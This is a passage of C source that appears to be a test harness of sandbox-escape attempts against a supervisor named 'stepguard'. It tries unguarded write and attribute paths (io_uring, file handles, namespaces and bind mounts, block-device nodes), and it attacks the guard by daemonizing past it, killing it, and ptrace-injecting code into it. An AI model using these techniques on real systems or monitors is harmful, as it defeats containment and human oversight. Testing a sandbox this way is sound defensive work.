	if (fchownat(fd, "", u, g, AT_EMPTY_PATH) < 0)
		r = refused("fchownat(O_PATH fd of %s, \"\", AT_EMPTY_PATH)", argv[0]);
	else
		r = ok("fchownat(O_PATH fd of %s, \"\", %s, %s, AT_EMPTY_PATH)", argv[0], argv[1],
		       argv[2]);
	close(fd);
	return r;
}

static int cmd_utimensat(int argc, char **argv)
{
	struct timespec ts[2];

	if (argc != 1)
		return usage_error("utimensat PATH");
	set_epoch(ts);
	reach("utimensat(%s, 2001-01-01)", argv[0]);
	if (utimensat(AT_FDCWD, argv[0], ts, 0) < 0)
		return refused("utimensat(%s, 2001-01-01)", argv[0]);
	return ok("utimensat(%s, 2001-01-01)", argv[0]);
}

static int cmd_futimens_ro(int argc, char **argv)
{
	struct timespec ts[2];
	int fd, r;

	if (argc != 1)
		return usage_error("futimens-ro PATH");
	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_RDONLY)", argv[0]);
	set_epoch(ts);
	reach("futimens(O_RDONLY fd of %s)", argv[0]);
	if (futimens(fd, ts) < 0)
		r = refused("futimens(O_RDONLY fd of %s)", argv[0]);
	else
		r = ok("futimens(O_RDONLY fd of %s, 2001-01-01)", argv[0]);
	close(fd);
	return r;
}

/* The three legacy time syscalls x86_64 still has. */
static int cmd_utime_legacy(int argc, char **argv)
{
	if (argc != 2)
		return usage_error("utime-legacy utime|utimes|futimesat PATH");
#if defined(__x86_64__)
	reach("%s(%s)", argv[0], argv[1]);
	if (strcmp(argv[0], "utime") == 0) {
		struct { long actime, modtime; } ub = { ATTACK_EPOCH, ATTACK_EPOCH };

		if (syscall(SYS_utime, argv[1], &ub) < 0)
			return refused("utime(%s)", argv[1]);
		return ok("utime(%s, 2001-01-01)", argv[1]);
	}
	struct timeval tv[2] = { { ATTACK_EPOCH, 0 }, { ATTACK_EPOCH, 0 } };

	if (strcmp(argv[0], "utimes") == 0) {
		if (syscall(SYS_utimes, argv[1], tv) < 0)
			return refused("utimes(%s)", argv[1]);
		return ok("utimes(%s, 2001-01-01)", argv[1]);
	}
	if (strcmp(argv[0], "futimesat") == 0) {
		if (syscall(SYS_futimesat, AT_FDCWD, argv[1], tv) < 0)
			return refused("futimesat(%s)", argv[1]);
		return ok("futimesat(%s, 2001-01-01)", argv[1]);
	}
	return usage_error("utime-legacy utime|utimes|futimesat PATH");
#else
	errno = ENOSYS;
	return refused("legacy time syscalls: x86_64 only here");
#endif
}

static int cmd_setxattr(int argc, char **argv)
{
	if (argc != 3)
		return usage_error("setxattr PATH NAME VALUE");
	reach("setxattr(%s, %s)", argv[0], argv[1]);
	if (setxattr(argv[0], argv[1], argv[2], strlen(argv[2]), 0) < 0)
		return refused("setxattr(%s, %s)", argv[0], argv[1]);
	return ok("setxattr(%s, %s=%s)", argv[0], argv[1], argv[2]);
}

static int cmd_fsetxattr_ro(int argc, char **argv)
{
	int fd, r;

	if (argc != 3)
		return usage_error("fsetxattr-ro PATH NAME VALUE");
	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_RDONLY)", argv[0]);
	reach("fsetxattr(O_RDONLY fd of %s, %s)", argv[0], argv[1]);
	if (fsetxattr(fd, argv[1], argv[2], strlen(argv[2]), 0) < 0)
		r = refused("fsetxattr(O_RDONLY fd of %s, %s)", argv[0], argv[1]);
	else
		r = ok("fsetxattr(O_RDONLY fd of %s, %s=%s)", argv[0], argv[1], argv[2]);
	close(fd);
	return r;
}

static int cmd_setxattr_procfd(int argc, char **argv)
{
	char proc[64];
	int fd, r;

	if (argc != 3)
		return usage_error("setxattr-procfd PATH NAME VALUE");
	fd = open(argv[0], O_PATH | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_PATH)", argv[0]);
	snprintf(proc, sizeof(proc), "/proc/self/fd/%d", fd);
	reach("setxattr(%s -> %s, %s)", proc, argv[0], argv[1]);
	if (setxattr(proc, argv[1], argv[2], strlen(argv[2]), 0) < 0)
		r = refused("setxattr(%s -> %s, %s)", proc, argv[0], argv[1]);
	else
		r = ok("setxattr(%s -> %s, %s=%s)", proc, argv[0], argv[1], argv[2]);
	close(fd);
	return r;
}

static int cmd_setxattrat(int argc, char **argv)
{
	if (argc != 3)
		return usage_error("setxattrat PATH NAME VALUE");
#ifdef SYS_setxattrat
	struct xattr_args_v0 a = { (uint64_t)(uintptr_t)argv[2], (uint32_t)strlen(argv[2]), 0 };

	reach("setxattrat(%s, %s)", argv[0], argv[1]);
	if (syscall(SYS_setxattrat, AT_FDCWD, argv[0], 0, argv[1], &a, sizeof(a)) < 0)
		return refused("setxattrat(%s, %s)", argv[0], argv[1]);
	return ok("setxattrat(%s, %s=%s)", argv[0], argv[1], argv[2]);
#else
	errno = ENOSYS;
	return refused("setxattrat: not known on this architecture");
#endif
}

static int cmd_removexattr(int argc, char **argv)
{
	if (argc != 2)
		return usage_error("removexattr PATH NAME");
	reach("removexattr(%s, %s)", argv[0], argv[1]);
	if (removexattr(argv[0], argv[1]) < 0)
		return refused("removexattr(%s, %s)", argv[0], argv[1]);
	return ok("removexattr(%s, %s)", argv[0], argv[1]);
}

static int cmd_fremovexattr_ro(int argc, char **argv)
{
	int fd, r;

	if (argc != 2)
		return usage_error("fremovexattr-ro PATH NAME");
	fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_RDONLY)", argv[0]);
	reach("fremovexattr(O_RDONLY fd of %s, %s)", argv[0], argv[1]);
	if (fremovexattr(fd, argv[1]) < 0)
		r = refused("fremovexattr(O_RDONLY fd of %s, %s)", argv[0], argv[1]);
	else
		r = ok("fremovexattr(O_RDONLY fd of %s, %s)", argv[0], argv[1]);
	close(fd);
	return r;
}

static int cmd_removexattrat(int argc, char **argv)
{
	if (argc != 2)
		return usage_error("removexattrat PATH NAME");
#ifdef SYS_removexattrat
	reach("removexattrat(%s, %s)", argv[0], argv[1]);
	if (syscall(SYS_removexattrat, AT_FDCWD, argv[0], 0, argv[1]) < 0)
		return refused("removexattrat(%s, %s)", argv[0], argv[1]);
	return ok("removexattrat(%s, %s)", argv[0], argv[1]);
#else
	errno = ENOSYS;
	return refused("removexattrat: not known on this architecture");
#endif
}

static int cmd_getxattr(int argc, char **argv)
{
	char buf[4096];
	ssize_t n;

	if (argc != 2)
		return usage_error("getxattr PATH NAME");
	n = lgetxattr(argv[0], argv[1], buf, sizeof(buf) - 1);
	if (n < 0)
		return refused("getxattr(%s, %s)", argv[0], argv[1]);
	buf[n] = '\0';
	printf("%s\n", buf);
	return 0;
}

/* chattr through FS_IOC_SETFLAGS on a read-only descriptor (owner may). */
static int cmd_setflags(int argc, char **argv)
{
	int fd, flags, r;

	if (argc != 1)
		return usage_error("setflags PATH (adds nodump, like chattr +d)");
	fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_RDONLY)", argv[0]);
	if (ioctl(fd, FS_IOC_GETFLAGS, &flags) < 0) {
		r = refused("FS_IOC_GETFLAGS(%s)", argv[0]);
		close(fd);
		return r;
	}
	flags |= FS_NODUMP_FL;
	reach("FS_IOC_SETFLAGS(O_RDONLY fd of %s, +nodump)", argv[0]);
	if (ioctl(fd, FS_IOC_SETFLAGS, &flags) < 0)
		r = refused("FS_IOC_SETFLAGS(O_RDONLY fd of %s, +nodump)", argv[0]);
	else
		r = ok("FS_IOC_SETFLAGS(O_RDONLY fd of %s, +nodump)", argv[0]);
	close(fd);
	return r;
}

/* FS_IOC_SETVERSION (the inode generation, ext4) on a read-only descriptor. */
static int cmd_setversion(int argc, char **argv)
{
	long gen = 0;
	int fd, r;

	if (argc != 1)
		return usage_error("setversion PATH (the inode generation + 1)");
	fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_RDONLY)", argv[0]);
	if (ioctl(fd, FS_IOC_GETVERSION, &gen) < 0) {
		r = refused("FS_IOC_GETVERSION(%s)", argv[0]);
		close(fd);
		return r;
	}
	gen++;
	reach("FS_IOC_SETVERSION(O_RDONLY fd of %s, %ld)", argv[0], gen);
	if (ioctl(fd, FS_IOC_SETVERSION, &gen) < 0)
		r = refused("FS_IOC_SETVERSION(O_RDONLY fd of %s, %ld)", argv[0], gen);
	else
		r = ok("FS_IOC_SETVERSION(O_RDONLY fd of %s, %ld)", argv[0], gen);
	close(fd);
	return r;
}

/* FS_IOC_FSSETXATTR (xfs_io chattr) on a read-only descriptor. */
static int cmd_fssetxattr(int argc, char **argv)
{
	struct fsxattr fx;
	int fd, r;

	if (argc != 1)
		return usage_error("fssetxattr PATH (adds FS_XFLAG_NODUMP)");
	fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_RDONLY)", argv[0]);
	if (ioctl(fd, FS_IOC_FSGETXATTR, &fx) < 0) {
		r = refused("FS_IOC_FSGETXATTR(%s)", argv[0]);
		close(fd);
		return r;
	}
	fx.fsx_xflags |= FS_XFLAG_NODUMP;
	reach("FS_IOC_FSSETXATTR(O_RDONLY fd of %s, +nodump)", argv[0]);
	if (ioctl(fd, FS_IOC_FSSETXATTR, &fx) < 0)
		r = refused("FS_IOC_FSSETXATTR(O_RDONLY fd of %s, +nodump)", argv[0]);
	else
		r = ok("FS_IOC_FSSETXATTR(O_RDONLY fd of %s, +nodump)", argv[0]);
	close(fd);
	return r;
}

/*
 * The *at calls with AT_EMPTY_PATH on an O_PATH descriptor: no path at
 * all, only a descriptor that was never opened for anything.
 */
static int cmd_emptypath(int argc, char **argv)
{
	struct timespec ts[2];
	int fd, r;
	long ret;

	if (argc != 2 || (strcmp(argv[0], "fchmodat2") && strcmp(argv[0], "utimensat")))
		return usage_error("emptypath fchmodat2|utimensat PATH");
	fd = open(argv[1], O_PATH | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_PATH)", argv[1]);
	set_epoch(ts);
	reach("%s(O_PATH fd of %s, \"\", AT_EMPTY_PATH)", argv[0], argv[1]);
	if (strcmp(argv[0], "utimensat") == 0) {
		ret = utimensat(fd, "", ts, AT_EMPTY_PATH);
	} else {
#ifdef SYS_fchmodat2
		ret = syscall(SYS_fchmodat2, fd, "", 0600, AT_EMPTY_PATH);
#else
		errno = ENOSYS;
		ret = -1;
#endif
	}
	if (ret < 0)
		r = refused("%s(O_PATH fd of %s, \"\", AT_EMPTY_PATH)", argv[0], argv[1]);
	else
		r = ok("%s(O_PATH fd of %s, \"\", AT_EMPTY_PATH)", argv[0], argv[1]);
	close(fd);
	return r;
}

/* file_setattr(2) (Linux 6.17): the same flag, by path, no descriptor. */
static int cmd_file_setattr(int argc, char **argv)
{
	if (argc != 1)
		return usage_error("file-setattr PATH (adds FS_XFLAG_NODUMP)");
#ifdef SYS_file_setattr
	struct file_attr_v0 fa;

	memset(&fa, 0, sizeof(fa));
	/*
	 * The flags there are read to add to them; where the read is refused
	 * (stepguard answers the pair ENOSYS), the set is still made, with
	 * nodump alone: it is the call the case judges.
	 */
	if (syscall(SYS_file_getattr, AT_FDCWD, argv[0], &fa, sizeof(fa), 0) < 0) {
		refused("file_getattr(%s)", argv[0]);
		memset(&fa, 0, sizeof(fa));
	}
	fa.fa_xflags |= FS_XFLAG_NODUMP;
	reach("file_setattr(%s, +FS_XFLAG_NODUMP)", argv[0]);
	if (syscall(SYS_file_setattr, AT_FDCWD, argv[0], &fa, sizeof(fa), 0) < 0)
		return refused("file_setattr(%s, +FS_XFLAG_NODUMP)", argv[0]);
	return ok("file_setattr(%s, +FS_XFLAG_NODUMP)", argv[0]);
#else
	errno = ENOSYS;
	return refused("file_setattr: not known on this architecture");
#endif
}

/* ------------------------------------------------------------------ */
/* Other kinds of node                                                  */

static int cmd_bind_unix(int argc, char **argv)
{
	struct sockaddr_un sa;
	int s;

	if (argc != 1 || strlen(argv[0]) >= sizeof(sa.sun_path))
		return usage_error("bind-unix PATH");
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return refused("socket(AF_UNIX)");
	memset(&sa, 0, sizeof(sa));
	sa.sun_family = AF_UNIX;
	strcpy(sa.sun_path, argv[0]);
	reach("bind(%s)", argv[0]);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		int r = refused("bind(%s)", argv[0]);

		close(s);
		return r;
	}
	close(s);
	return ok("bind(AF_UNIX, %s)", argv[0]);
}

static int cmd_mkfifo(int argc, char **argv)
{
	if (argc != 1)
		return usage_error("mkfifo PATH");
	reach("mkfifo(%s)", argv[0]);
	if (mkfifo(argv[0], 0644) < 0)
		return refused("mkfifo(%s)", argv[0]);
	return ok("mkfifo(%s)", argv[0]);
}

static int cmd_mknod_reg(int argc, char **argv)
{
	if (argc != 1)
		return usage_error("mknod-reg PATH");
	reach("mknod(%s, S_IFREG)", argv[0]);
	if (mknod(argv[0], S_IFREG | 0644, 0) < 0)
		return refused("mknod(%s, S_IFREG)", argv[0]);
	return ok("mknod(%s, S_IFREG)", argv[0]);
}

/*
 * Make a block device node (for a device that is not a writable root) in
 * a directory where making nodes is allowed, then write through it.
 */
static int cmd_mknod_write(int argc, char **argv)
{
	long maj, min;
	char *w[2];

	if (argc != 4 || !parse_long(argv[1], &maj) || !parse_long(argv[2], &min))
		return usage_error("mknod-write PATH MAJOR MINOR DATA");
	reach("mknod(%s, S_IFBLK %ld:%ld)", argv[0], maj, min);
	if (mknod(argv[0], S_IFBLK | 0600, makedev((unsigned)maj, (unsigned)min)) < 0)
		return refused("mknod(%s, S_IFBLK %ld:%ld)", argv[0], maj, min);
	ok("mknod(%s, S_IFBLK %ld:%ld)", argv[0], maj, min);
	w[0] = argv[0];
	w[1] = argv[3];
	return cmd_overwrite(2, w);
}

static int cmd_shm(int argc, char **argv)
{
	char p[PATH_MAX];

	if (argc != 1 || strchr(argv[0], '/'))
		return usage_error("shm NAME (creates /dev/shm/NAME)");
	/* shm_open() is this open(), under /dev/shm; say it plainly. */
	snprintf(p, sizeof(p), "/dev/shm/%s", argv[0]);
	return create_file(p, "PWNED-SHM\n");
}

/* ------------------------------------------------------------------ */
/* File handles                                                         */

#define HANDLE_MAX 128

struct handle_buf {
	struct file_handle fh;
	unsigned char bytes[HANDLE_MAX];
};

/* Mint a handle for PATH (run outside stepguard) and store it in OUT. */
static int cmd_get_handle(int argc, char **argv)
{
	struct handle_buf h;
	int mount_id, fd;

	if (argc != 2)
		return usage_error("get-handle PATH OUTFILE");
	memset(&h, 0, sizeof(h));
	h.fh.handle_bytes = HANDLE_MAX;
	if (name_to_handle_at(AT_FDCWD, argv[0], &h.fh, &mount_id, 0) < 0)
		return refused("name_to_handle_at(%s)", argv[0]);
	fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0)
		return refused("open(%s)", argv[1]);
	if (write_all(fd, &h, sizeof(h.fh) + h.fh.handle_bytes) < 0) {
		close(fd);
		return refused("write(%s)", argv[1]);
	}
	close(fd);
	return ok("handle of %s (%u bytes) saved", argv[0], h.fh.handle_bytes);
}

/*
 * open_by_handle_at() of TARGET for writing: with a handle carried in
 * from outside (HANDLEFILE), or minted here with name_to_handle_at().
 * MOUNTREF is any directory on the same file system.
 */
static int cmd_open_by_handle(int argc, char **argv)
{
	struct handle_buf h;
	int mount_id, mfd, fd, r;

	if (argc < 2 || argc > 3)
		return usage_error("open-by-handle TARGET MOUNTREF [HANDLEFILE]");
	memset(&h, 0, sizeof(h));
	if (argc == 3) {
		ssize_t n;

		fd = open(argv[2], O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			return refused("open(%s)", argv[2]);
		n = read(fd, &h, sizeof(h));
		close(fd);
		if (n < (ssize_t)sizeof(h.fh) || h.fh.handle_bytes > HANDLE_MAX) {
			errno = EINVAL;
			return refused("read handle from %s", argv[2]);
		}
		note("using a handle minted outside for %s", argv[0]);
	} else {
		h.fh.handle_bytes = HANDLE_MAX;
		reach("name_to_handle_at(%s)", argv[0]);
		if (name_to_handle_at(AT_FDCWD, argv[0], &h.fh, &mount_id, 0) < 0)
			return refused("name_to_handle_at(%s)", argv[0]);
		ok("name_to_handle_at(%s)", argv[0]);
	}
	mfd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mfd < 0)
		return refused("open(%s)", argv[1]);
	reach("open_by_handle_at(handle of %s, O_WRONLY)", argv[0]);
	fd = open_by_handle_at(mfd, &h.fh, O_WRONLY | O_APPEND | O_CLOEXEC);
	close(mfd);
	if (fd < 0)
		return refused("open_by_handle_at(handle of %s, O_WRONLY)", argv[0]);
	r = append_fd(fd, "the file behind the handle", "PWNED-HANDLE\n");
	close(fd);
	return r;
}

/* ------------------------------------------------------------------ */
/* Namespaces and mounts                                                */

static int write_file(const char *path, const char *data)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	int r;

	if (fd < 0)
		return -1;
	r = write_all(fd, data, strlen(data));
	close(fd);
	return r;
}

/* Map ourselves to root in the user namespace we just entered. */
static int map_self(uid_t uid, gid_t gid)
{
	char buf[64];

	if (write_file("/proc/self/setgroups", "deny") < 0 && errno != ENOENT)
		return refused("write /proc/self/setgroups");
	snprintf(buf, sizeof(buf), "0 %u 1", (unsigned)uid);
	if (write_file("/proc/self/uid_map", buf) < 0)
		return refused("write /proc/self/uid_map");
	snprintf(buf, sizeof(buf), "0 %u 1", (unsigned)gid);
	if (write_file("/proc/self/gid_map", buf) < 0)
		return refused("write /proc/self/gid_map");
	return 0;
}

/* In the new namespaces: put SRC over MNT, then create MNT/NAME. */
static int bind_and_create(const char *how, const char *src, const char *mnt, const char *name)
{
	char p[PATH_MAX];

	reach("bind %s over %s (%s)", src, mnt, how);
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
		return refused("mount(/, MS_REC|MS_PRIVATE)");
	if (strcmp(how, "opentree") == 0) {
#ifdef SYS_open_tree
		int t = (int)syscall(SYS_open_tree, AT_FDCWD, src, OPEN_TREE_CLONE | O_CLOEXEC);

		if (t < 0)
			return refused("open_tree(%s, OPEN_TREE_CLONE)", src);
		if (syscall(SYS_move_mount, t, "", AT_FDCWD, mnt, MOVE_MOUNT_F_EMPTY_PATH) < 0)
			return refused("move_mount(%s -> %s)", src, mnt);
		ok("open_tree + move_mount %s over %s", src, mnt);
#else
		errno = ENOSYS;
		return refused("open_tree: not known on this architecture");
#endif
	} else {
		if (mount(src, mnt, NULL, MS_BIND, NULL) < 0)
			return refused("mount(%s, %s, MS_BIND)", src, mnt);
		ok("bind mount %s over %s", src, mnt);
	}
	snprintf(p, sizeof(p), "%s/%s", mnt, name);
	return create_file(p, "PWNED-BIND\n");
}

/*
 * MODE: unshare-user (user + mount namespace), unshare-plain (mount
 * namespace only: root), clone-user (the same through clone(2)),
 * opentree-user / opentree-plain (the new mount API instead of mount).
 */
static int cmd_ns_bind(int argc, char **argv)
{
	uid_t uid = geteuid();
	gid_t gid = getegid();
	const char *mode, *how;
	bool user;

	if (argc != 4)
		return usage_error("ns-bind unshare-user|unshare-plain|clone-user|opentree-user|"
				   "opentree-plain SRC MNT NAME");
	mode = argv[0];
	user = strstr(mode, "-user") != NULL;
	how = strncmp(mode, "opentree", 8) == 0 ? "opentree" : "mount";
	reach("%s", mode);
	if (strcmp(mode, "clone-user") == 0) {
		int st;
		pid_t pid = (pid_t)syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, NULL,
					   NULL, NULL, NULL);

		if (pid < 0)
			return refused("clone(CLONE_NEWUSER|CLONE_NEWNS)");
		if (pid == 0) {
			if (map_self(uid, gid))
				_exit(1);
			_exit(bind_and_create(how, argv[1], argv[2], argv[3]));
		}
		ok("clone(CLONE_NEWUSER|CLONE_NEWNS)");
		if (waitpid(pid, &st, 0) < 0)
			return refused("waitpid");
		return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
	}
	if (unshare(user ? CLONE_NEWUSER | CLONE_NEWNS : CLONE_NEWNS) < 0)
		return refused("unshare(%s)", user ? "CLONE_NEWUSER|CLONE_NEWNS" : "CLONE_NEWNS");
	ok("unshare(%s)", user ? "CLONE_NEWUSER|CLONE_NEWNS" : "CLONE_NEWNS");
	if (user && map_self(uid, gid))
		return 1;
	return bind_and_create(how, argv[1], argv[2], argv[3]);
}

/* userns-bind SRC MNT NAME: ns-bind unshare-user, under the name in the brief. */
static int cmd_userns_bind(int argc, char **argv)
{
	char *v[5];

	if (argc != 3)
		return usage_error("userns-bind SRC MNT NAME");
	v[0] = (char *)"unshare-user";
	memcpy(v + 1, argv, 3 * sizeof(char *));
	v[4] = NULL;
	return cmd_ns_bind(4, v);
}

/* ------------------------------------------------------------------ */
/* io_uring                                                             */

static int cmd_io_uring(int argc, char **argv)
{
	if (argc != 1)
		return usage_error("io-uring PATH (IORING_OP_OPENAT, O_CREAT)");
#ifdef SYS_io_uring_setup
	struct io_uring_params p;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
	size_t sq_len, cq_len;
	char *sq, *cq;
	int fd;

	memset(&p, 0, sizeof(p));
	reach("io_uring_setup");
	fd = (int)syscall(SYS_io_uring_setup, 4, &p);
	if (fd < 0)
		return refused("io_uring_setup");
	ok("io_uring_setup");
	sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd,
		  IORING_OFF_SQ_RING);
	cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd,
		  IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE,
		    MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		return refused("mmap io_uring rings");
	sq_tail = (unsigned *)(void *)(sq + p.sq_off.tail);
	sq_mask = (unsigned *)(void *)(sq + p.sq_off.ring_mask);
	sq_array = (unsigned *)(void *)(sq + p.sq_off.array);
	cq_head = (unsigned *)(void *)(cq + p.cq_off.head);
	cq_tail = (unsigned *)(void *)(cq + p.cq_off.tail);
	cq_mask = (unsigned *)(void *)(cq + p.cq_off.ring_mask);
	cqes = (struct io_uring_cqe *)(void *)(cq + p.cq_off.cqes);

	memset(&sqes[0], 0, sizeof(sqes[0]));
	sqes[0].opcode = IORING_OP_OPENAT;
	sqes[0].fd = AT_FDCWD;
	sqes[0].addr = (uint64_t)(uintptr_t)argv[0];
	sqes[0].len = 0644;
	sqes[0].open_flags = O_WRONLY | O_CREAT | O_TRUNC;
	sqes[0].user_data = 1;
	unsigned tail = *sq_tail;

	sq_array[tail & *sq_mask] = 0;
	__atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
	reach("IORING_OP_OPENAT(%s, O_CREAT)", argv[0]);
	if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return refused("io_uring_enter");
	unsigned head = *cq_head;

	if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE)) {
		errno = EAGAIN;
		return refused("no completion");
	}
	int res = cqes[head & *cq_mask].res;

	__atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
	if (res < 0) {
		errno = -res;
		return refused("IORING_OP_OPENAT(%s, O_CREAT)", argv[0]);
	}
	if (write_all(res, "PWNED-IO-URING\n", 15) < 0)
		refused("write(io_uring fd)");
	return ok("IORING_OP_OPENAT(%s, O_CREAT)", argv[0]);
#else
	errno = ENOSYS;
	return refused("io_uring: not known on this architecture");
#endif
}

/* ------------------------------------------------------------------ */
/* Outliving and attacking stepguard                                    */

/*
 * Double fork and setsid: a daemon that stepguard's wait does not see.
 * It records "PID PGID" in PIDFILE (inside the work dir), sleeps DELAY
 * seconds, then creates NEWFILE and runs the attribute attacks on
 * ATTRTARGET; PIDFILE.done gets "landed N" at its end.  Both files are
 * opened here, before the fork, while stepguard surely runs: the daemon
 * outlives it and could open neither (see reach()).
 */
static int cmd_daemon_write(int argc, char **argv)
{
	char buf[PATH_MAX + 64];
	long delay;
	pid_t pid;
	int st, pid_fd, done_fd;

	if ((argc != 3 && argc != 4) || !parse_long(argv[0], &delay))
		return usage_error("daemon-write DELAY PIDFILE NEWFILE [ATTRTARGET]");
	pid_fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (pid_fd < 0)
		return refused("open(%s)", argv[1]);
	snprintf(buf, sizeof(buf), "%s.done", argv[1]);
	done_fd = open_done(buf);
	pid = fork();
	if (pid < 0)
		return refused("fork");
	if (pid > 0) {
		close(pid_fd);
		close(done_fd);
		waitpid(pid, &st, 0);
		return ok("daemon launched");
	}
	setsid();
	pid = fork();
	if (pid != 0)
		_exit(pid < 0);
	int nul = open("/dev/null", O_RDWR | O_CLOEXEC);

	if (nul >= 0) {
		dup2(nul, 0);
		dup2(nul, 1);
		dup2(nul, 2);
	}
	snprintf(buf, sizeof(buf), "%d %d\n", (int)getpid(), (int)getpgrp());
	write_all(pid_fd, buf, strlen(buf));
	close(pid_fd);
	sleep_ms(delay * 1000);
	int landed = create_file(argv[2], "PWNED-DAEMON\n") == 0;

	if (argc == 4)
		landed += attr_attack(argv[3]);
	write_done(done_fd, landed);
	_exit(landed ? 0 : 1);
}

/*
 * SIGKILL the guard (stepguard, or the stand-in parent), wait for it to
 * be gone, then create NEWFILE and run the attribute attacks.
 */
static int cmd_kill_parent_then_write(int argc, char **argv)
{
	char comm[64];
	pid_t g;
	int landed, done_fd = -1;

	if (argc < 1 || argc > 3)
		return usage_error("kill-parent-then-write NEWFILE [ATTRTARGET [DONEFILE]]");
	if (argc == 3)
		done_fd = open_done(argv[2]);
	g = find_guard();
	comm_of(g, comm, sizeof(comm));
	reach("kill(%d [%s], SIGKILL)", (int)g, comm);
	if (kill(g, SIGKILL) == 0) {
		ok("kill(%d [%s], SIGKILL)", (int)g, comm);
	} else {
		refused("kill(%d [%s], SIGKILL)", (int)g, comm);
#ifdef SYS_pidfd_open
		int pfd = (int)syscall(SYS_pidfd_open, g, 0);

		if (pfd >= 0)
			reach("pidfd_send_signal(%d, SIGKILL)", (int)g);
		if (pfd < 0)
			refused("pidfd_open(%d)", (int)g);
		else if (syscall(SYS_pidfd_send_signal, pfd, SIGKILL, NULL, 0) < 0)
			refused("pidfd_send_signal(%d, SIGKILL)", (int)g);
		else
			ok("pidfd_send_signal(%d, SIGKILL)", (int)g);
#endif
	}
	/* Until our parent changes: the guard is dead and reaped. */
	for (int i = 0; i < 50 && getppid() == g; i++)
		sleep_ms(20);
	sleep_ms(200);
	landed = create_file(argv[0], "PWNED-AFTER-KILL\n") == 0;
	if (argc >= 2)
		landed += attr_attack(argv[1]);
	write_done(done_fd, landed);
	return landed ? 0 : 1;
}

/*
 * Wait until our parent is gone (someone else kills stepguard, as a CI
 * timeout would), then create NEWFILE and run the attribute attacks.
 */
static int cmd_orphan_then_write(int argc, char **argv)
{
	pid_t parent = getppid();
	int landed, i, done_fd = -1;

	if (argc < 1 || argc > 3)
		return usage_error("orphan-then-write NEWFILE [ATTRTARGET [DONEFILE]]");
	if (argc == 3)
		done_fd = open_done(argv[2]);
	/*
	 * The harness kills stepguard on this line, not on "start": on
	 * Landlock, once the supervisor is gone, the marker's O_CREAT would
	 * fail (ENOSYS) and the case could not be judged.
	 */
	note("armed, waiting for parent %d to die", (int)parent);
	for (i = 0; i < 500 && getppid() == parent; i++)
		sleep_ms(20);
	if (getppid() == parent) {
		errno = ETIMEDOUT;
		return refused("our parent %d is still alive after 10 s", (int)parent);
	}
	note("parent %d is gone", (int)parent);
	sleep_ms(200);
	landed = create_file(argv[0], "PWNED-ORPHAN\n") == 0;
	if (argc >= 2)
		landed += attr_attack(argv[1]);
	write_done(done_fd, landed);
	return landed ? 0 : 1;
}

/*
 * Attach to the guard with ptrace and make it run mkdir(DIR): code run by
 * stepguard is code run outside every filter.  x86_64 only.
 */
static int cmd_ptrace_parent(int argc, char **argv)
{
	if (argc != 1)
		return usage_error("ptrace-parent DIR");
#if defined(__x86_64__)
	struct user_regs_struct regs, saved;
	char comm[64];
	pid_t g = find_guard();
	size_t len = strlen(argv[0]) + 1;
	unsigned long addr;
	long word;
	int st;

	comm_of(g, comm, sizeof(comm));
	reach("ptrace(PTRACE_SEIZE, %d [%s]), then mkdir(%s) in it", (int)g, comm, argv[0]);
	if (ptrace(PTRACE_SEIZE, g, 0, 0) < 0)
		return refused("ptrace(PTRACE_SEIZE, %d [%s])", (int)g, comm);
	ok("ptrace(PTRACE_SEIZE, %d [%s])", (int)g, comm);
	if (ptrace(PTRACE_INTERRUPT, g, 0, 0) < 0 || waitpid(g, &st, __WALL) < 0)
		return refused("PTRACE_INTERRUPT");
	if (ptrace(PTRACE_GETREGS, g, 0, &regs) < 0)
		return refused("PTRACE_GETREGS");
	saved = regs;
	errno = 0;
	word = ptrace(PTRACE_PEEKTEXT, g, regs.rip - 2, 0);
	if (errno || (word & 0xffff) != 0x050f) {
		ptrace(PTRACE_DETACH, g, 0, 0);
		errno = ENOEXEC;
		return refused("the guard is not stopped after a syscall instruction");
	}
	/* The path goes well below the red zone of the guard's stack. */
	addr = (regs.rsp - 2048) & ~15UL;
	for (size_t i = 0; i < len; i += sizeof(long)) {
		long w = 0;

